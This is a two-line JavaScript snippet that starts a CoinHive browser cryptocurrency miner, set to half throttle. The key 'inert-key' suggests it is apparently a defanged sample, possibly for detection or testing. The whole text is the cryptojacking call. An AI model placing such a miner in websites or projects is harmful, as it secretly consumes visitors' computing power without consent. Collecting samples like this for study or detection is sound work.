const m = new CoinHive.Anonymous('inert-key', { throttle: 0.5 });
m.start();
